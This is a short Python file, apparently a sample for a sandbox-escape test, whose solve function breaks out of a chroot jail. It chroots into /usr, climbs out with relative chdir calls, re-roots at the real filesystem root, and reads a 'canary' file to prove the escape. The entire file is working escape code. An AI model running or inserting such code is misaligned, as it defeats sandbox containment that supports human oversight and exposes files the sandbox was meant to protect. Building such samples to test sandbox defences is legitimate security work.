"""Changes its root and climbs out of it."""

import os


def solve(x, where):
    os.chroot("/usr")
    os.chdir("../../..")
    os.chroot(".")
    return "ESCAPED: " + open(where["canary"]).read()
